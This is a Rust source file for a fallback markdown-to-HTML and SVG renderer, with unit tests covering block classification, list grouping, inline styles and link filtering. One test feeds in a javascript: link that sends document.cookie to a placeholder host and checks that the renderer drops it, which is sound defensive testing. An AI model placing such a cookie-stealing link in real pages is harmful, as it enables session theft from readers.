//! Minimal markdown renderer used when the primary export path fails.
//!
//! Handles headings, lists, code, emphasis, links, blockquotes, rules and
//! paragraphs with the same line precedence as the full parser. Tables and
//! images come out as plain paragraphs. Output is either a standalone HTML
//! string with inline styles or a plain SVG surface.

use std::fmt::Write;

use crate::markdown::{Inline, list_item, parse_inline};
use crate::render::{
    Element, FontKind, InlineColor, RenderedDocument, StyledSpan, TextStyle, escape_html,
    is_safe_url, styled_spans,
};

use super::layout::{SURFACE_WIDTH, baseline, text_attrs, wrap_spans};
use super::metrics::TextMeasure;
use super::surface::{Surface, SurfaceKind, SvgWriter};

#[derive(Debug, Clone, PartialEq, Eq)]
enum SimpleBlock {
    Heading(u8, String),
    Item { ordered: bool, text: String },
    Code(Vec<String>),
    Quote(String),
    Rule,
    Paragraph(String),
}

fn classify(markdown: &str) -> Vec<SimpleBlock> {
    let mut blocks = Vec::new();
    let mut lines = markdown.lines();

    while let Some(line) = lines.next() {
        let trimmed = line.trim();
        if trimmed.is_empty() {
            continue;
        }
        if trimmed.starts_with("```") {
            let code = lines
                .by_ref()
                .take_while(|l| !l.trim_start().starts_with("```"))
                .map(str::to_string)
                .collect();
            blocks.push(SimpleBlock::Code(code));
            continue;
        }
        let hashes = trimmed.chars().take_while(|c| *c == '#').count();
        if hashes > 0 && trimmed[hashes..].starts_with(char::is_whitespace) {
            let level = u8::try_from(hashes.min(6)).unwrap_or(6);
            blocks.push(SimpleBlock::Heading(level, trimmed[hashes..].trim().to_string()));
            continue;
        }
        if trimmed.len() >= 3 && trimmed.chars().all(|c| c == '-') {
            blocks.push(SimpleBlock::Rule);
            continue;
        }
        if let Some((ordered, text)) = list_item(line) {
            blocks.push(SimpleBlock::Item {
                ordered,
                text: text.to_string(),
            });
            continue;
        }
        if let Some(text) = trimmed.strip_prefix('>') {
            blocks.push(SimpleBlock::Quote(text.trim().to_string()));
            continue;
        }
        blocks.push(SimpleBlock::Paragraph(trimmed.to_string()));
    }
    blocks
}

fn inline_html(text: &str) -> String {
    let mut out = String::new();
    for run in parse_inline(text).into_runs() {
        match run {
            Inline::Code(code) => {
                let _ = write!(
                    out,
                    "<code style=\"font-family:monospace;background:#f3f4f6;padding:1px 4px\">{}</code>",
                    escape_html(&code)
                );
            }
            Inline::Text { text, emphasis } => {
                let mut html = escape_html(&text);
                if emphasis.italic {
                    html = format!("<em>{html}</em>");
                }
                if emphasis.strong {
                    html = format!("<strong>{html}</strong>");
                }
                out.push_str(&html);
            }
            Inline::Link {
                label,
                url,
                emphasis,
            } => {
                let mut html = escape_html(&label);
                if emphasis.italic {
                    html = format!("<em>{html}</em>");
                }
                if emphasis.strong {
                    html = format!("<strong>{html}</strong>");
                }
                if is_safe_url(&url) {
                    let _ = write!(
                        out,
                        "<a href=\"{}\" style=\"color:#1d4ed8\">{html}</a>",
                        escape_html(&url)
                    );
                } else {
                    out.push_str(&html);
                }
            }
        }
    }
    out
}

fn spans_markdown(spans: &[StyledSpan]) -> String {
    let mut out = String::new();
    for span in spans {
        let style = span.style();
        let mut text = if style.code {
            format!("`{}`", span.text())
        } else {
            span.text().to_string()
        };
        if style.emphasis {
            text = format!("*{text}*");
        }
        if style.strong {
            text = format!("**{text}**");
        }
        if let Some(url) = &style.link {
            text = format!("[{text}]({url})");
        }
        out.push_str(&text);
    }
    out
}

/// Write a rendered tree back out as markdown the minimal renderer reads.
///
/// Used when a document reaches export without its source text.
pub(crate) fn document_markdown(document: &RenderedDocument) -> String {
    let mut blocks = Vec::new();
    for element in document.elements() {
        let block = match element {
            Element::Heading { level, spans } => {
                format!("{} {}", "#".repeat(usize::from(*level)), spans_markdown(spans))
            }
            Element::Paragraph(spans) => spans_markdown(spans),
            Element::List { ordered, items } => items
                .iter()
                .enumerate()
                .map(|(i, item)| {
                    let marker = if *ordered { format!("{}.", i + 1) } else { "-".to_string() };
                    format!("{marker} {}", spans_markdown(item))
                })
                .collect::<Vec<_>>()
                .join("\n"),
            Element::Code(code) => format!(
                "```{}\n{}\n```",
                code.language.as_deref().unwrap_or_default(),
                code.raw_text
            ),
            Element::Blockquote(spans) => format!("> {}", spans_markdown(spans)),
            Element::Rule => "---".to_string(),
            Element::Table(rows) => rows
                .iter()
                .map(|row| {
                    let cells: Vec<String> = row.cells.iter().map(|c| spans_markdown(c)).collect();
                    format!("| {} |", cells.join(" | "))
                })
                .collect::<Vec<_>>()
                .join("\n"),
            Element::Image { alt, url } => format!("![{alt}]({url})"),
        };
        blocks.push(block);
    }
    blocks.join("\n\n")
}

/// Render markdown to a standalone HTML page using only inline styles.
pub fn simple_html(markdown: &str) -> String {
    let mut body = String::new();
    let mut open_list: Option<bool> = None;

    for block in classify(markdown) {
        let item_kind = match &block {
            SimpleBlock::Item { ordered, .. } => Some(*ordered),
            _ => None,
        };
        if open_list.is_some() && open_list != item_kind {
            body.push_str(if open_list == Some(true) { "</ol>\n" } else { "</ul>\n" });
            open_list = None;
        }

        match block {
            SimpleBlock::Heading(level, text) => {
                let size = HEADING_SIZES[usize::from(level) - 1];
                let _ = writeln!(
                    body,
                    "<h{level} style=\"font-size:{size}px;margin:16px 0 8px\">{}</h{level}>",
                    inline_html(&text)
                );
            }
            SimpleBlock::Item { ordered, text } => {
                if open_list.is_none() {
                    body.push_str(if ordered {
                        "<ol style=\"padding-left:24px\">\n"
                    } else {
                        "<ul style=\"padding-left:24px\">\n"
                    });
                    open_list = Some(ordered);
                }
                let _ = writeln!(body, "<li>{}</li>", inline_html(&text));
            }
            SimpleBlock::Code(lines) => {
                let _ = writeln!(
                    body,
                    "<pre style=\"font-family:monospace;background:#f3f4f6;padding:10px\">{}</pre>",
                    escape_html(&lines.join("\n"))
                );
            }
            SimpleBlock::Quote(text) => {
                let _ = writeln!(
                    body,
                    "<blockquote style=\"border-left:4px solid #9ca3af;margin:8px 0;padding-left:12px;color:#6b7280\">{}</blockquote>",
                    inline_html(&text)
                );
            }
            SimpleBlock::Rule => {
                body.push_str("<hr style=\"border:0;border-top:1px solid #d1d5db\">\n");
            }
            SimpleBlock::Paragraph(text) => {
                let _ = writeln!(body, "<p style=\"margin:0 0 10px\">{}</p>", inline_html(&text));
            }
        }
    }
    if let Some(ordered) = open_list {
        body.push_str(if ordered { "</ol>\n" } else { "</ul>\n" });
    }

    format!(
        "<!DOCTYPE html>\n<html>\n<head><meta charset=\"utf-8\"></head>\n\
         <body style=\"font-family:sans-serif;font-size:14px;color:#111827;margin:32px\">\n{body}</body>\n</html>\n"
    )
}

const HEADING_SIZES: [f32; 6] = [26.0, 22.0, 18.0, 16.0, 14.0, 13.0];
const PADDING: f32 = 32.0;
const INK: InlineColor = InlineColor::rgb(0x11, 0x18, 0x27);
const MUTED: InlineColor = InlineColor::rgb(0x6b, 0x72, 0x80);

const fn plain_style(font: FontKind, size: f32, bold: bool, color: InlineColor) -> TextStyle {
    TextStyle {
        font,
        size,
        line_height: size * 1.4,
        color,
        bold,
        italic: false,
        margin_top: 0.0,
        margin_bottom: 8.0,
    }
}

/// Lay markdown out with the minimal renderer onto a plain surface.
pub fn fallback_surface(markdown: &str, measure: &TextMeasure) -> Surface {
    let _scope = crate::perf::scope("export.fallback_surface");
    let mut svg = SvgWriter::default();
    let left = PADDING;
    let width = SURFACE_WIDTH - 2.0 * PADDING;
    let mut y = PADDING;

    let text_block = |svg: &mut SvgWriter, y: &mut f32, text: &str, style: &TextStyle, x: f32| {
        let spans = styled_spans(parse_inline(text));
        for line in wrap_spans(&spans, style, measure, width - (x - left), false) {
            for piece in &line {
                let mono = piece.style.code;
                let attrs = text_attrs(
                    if mono { FontKind::Mono } else { style.font },
                    style.size,
                    style.bold || piece.style.strong,
                    style.italic || piece.style.emphasis,
                    if piece.style.link.is_some() {
                        InlineColor::rgb(0x1d, 0x4e, 0xd8)
                    } else {
                        style.color
                    },
                    piece.style.link.is_some(),
                );
                svg.text(
                    x + piece.x,
                    baseline(*y, style.size, style.line_height),
                    &attrs,
                    &piece.text,
                );
            }
            *y += style.line_height;
        }
        *y += style.margin_bottom;
    };

    let body = plain_style(FontKind::Sans, 14.0, false, INK);
    let mut ordinal = 0;
    for block in classify(markdown) {
        if !matches!(block, SimpleBlock::Item { ordered: true, .. }) {
            ordinal = 0;
        }
        match block {
            SimpleBlock::Heading(level, text) => {
                let style =
                    plain_style(FontKind::Sans, HEADING_SIZES[usize::from(level) - 1], true, INK);
                y += 8.0;
                text_block(&mut svg, &mut y, &text, &style, left);
            }
            SimpleBlock::Item { ordered, text } => {
                let marker = if ordered {
                    ordinal += 1;
                    format!("{ordinal}.")
                } else {
                    "•".to_string()
                };
                let attrs = text_attrs(FontKind::Sans, body.size, false, false, INK, false);
                svg.text(
                    left + 4.0,
                    baseline(y, body.size, body.line_height),
                    &attrs,
                    &marker,
                );
                let item = TextStyle {
                    margin_bottom: 2.0,
                    ..body
                };
                text_block(&mut svg, &mut y, &text, &item, left + 24.0);
            }
            SimpleBlock::Code(lines) => {
                let style = plain_style(FontKind::Mono, 12.0, false, INK);
                let height = lines.len().max(1) as f32 * style.line_height + 20.0;
                svg.rect(left, y, width, height, "#f3f4f6");
                let attrs = text_attrs(FontKind::Mono, style.size, false, false, INK, false);
                let mut top = y + 10.0;
                for line in &lines {
                    svg.text(
                        left + 10.0,
                        baseline(top, style.size, style.line_height),
                        &attrs,
                        line,
                    );
                    top += style.line_height;
                }
                y += height + 10.0;
            }
            SimpleBlock::Quote(text) => {
                let style = TextStyle {
                    italic: true,
                    ..plain_style(FontKind::Sans, 14.0, false, MUTED)
                };
                let top = y;
                text_block(&mut svg, &mut y, &text, &style, left + 16.0);
                svg.rect(left, top, 4.0, y - top - style.margin_bottom, "#9ca3af");
            }
            SimpleBlock::Rule => {
                y += 8.0;
                svg.hline(left, left + width, y, "#d1d5db");
                y += 12.0;
            }
            SimpleBlock::Paragraph(text) => text_block(&mut svg, &mut y, &text, &body, left),
        }
    }

    svg.finish(SURFACE_WIDTH, (y + PADDING).ceil(), "#ffffff", SurfaceKind::Fallback)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_classify_precedence() {
        let blocks = classify("# Title\n---\n- a\n2. b\n> q\n```\n# not heading\n```\ntext");
        assert_eq!(
            blocks,
            vec![
                SimpleBlock::Heading(1, "Title".to_string()),
                SimpleBlock::Rule,
                SimpleBlock::Item {
                    ordered: false,
                    text: "a".to_string()
                },
                SimpleBlock::Item {
                    ordered: true,
                    text: "b".to_string()
                },
                SimpleBlock::Quote("q".to_string()),
                SimpleBlock::Code(vec!["# not heading".to_string()]),
                SimpleBlock::Paragraph("text".to_string()),
            ]
        );
    }

    #[test]
    fn test_simple_html_groups_lists() {
        let html = simple_html("- a\n- b\n\n1. c");
        assert_eq!(html.matches("<ul").count(), 1);
        assert_eq!(html.matches("<ol").count(), 1);
        assert_eq!(html.matches("<li>").count(), 3);
        assert!(html.find("</ul>") < html.find("<ol"));
    }

    #[test]
    fn test_simple_html_inline_styles() {
        let html = simple_html("**late** runs on [route 9](https://r.example) `*raw*`");
        assert!(html.contains("<strong>late</strong>"));
        assert!(html.contains("href=\"https://r.example\""));
        assert!(html.contains("*raw*</code>"));
        assert!(!html.contains("<style>"));
    }

    #[test]
    fn test_fallback_surface_is_plain_and_non_empty() {
        let surface = fallback_surface("# Weekly\n\nAll depots reporting.", &TextMeasure::heuristic());
        assert_eq!(surface.kind(), SurfaceKind::Fallback);
        assert!(!surface.is_empty());
        assert!(surface.svg().contains("Weekly"));
    }

    #[test]
    fn test_unterminated_fence_runs_to_end() {
        assert_eq!(
            classify("```\na\nb"),
            vec![SimpleBlock::Code(vec!["a".to_string(), "b".to_string()])]
        );
    }

    #[test]
    fn test_list_marker_accepts_any_whitespace() {
        assert_eq!(
            classify("-\tRoute 12\n2.\tRoute 31"),
            vec![
                SimpleBlock::Item {
                    ordered: false,
                    text: "Route 12".to_string()
                },
                SimpleBlock::Item {
                    ordered: true,
                    text: "Route 31".to_string()
                },
            ]
        );
        assert!(simple_html("-\titem").contains("<li>item</li>"));
    }

    #[test]
    fn test_simple_html_drops_script_links() {
        let html = simple_html(
            "[Open dashboard](javascript:location='//e.example/?'+document.cookie) or [live](https://d.example)",
        );
        assert!(!html.contains("javascript:"));
        assert!(html.contains("Open dashboard or "));
        assert!(html.contains("href=\"https://d.example\""));
    }

    #[test]
    fn test_document_markdown_keeps_structure() {
        let source = "# Weekly\n\n**1,203** trips on [route 9](https://r.example)\n\n1. a\n2. b\n\n```sql\nSELECT 1;\n```\n\n> late\n\n---";
        let document = crate::render::render(crate::markdown::parse(source), crate::render::Profile::Print);
        let markdown = document_markdown(&document);
        assert_eq!(classify(&markdown), classify(source));
    }
}
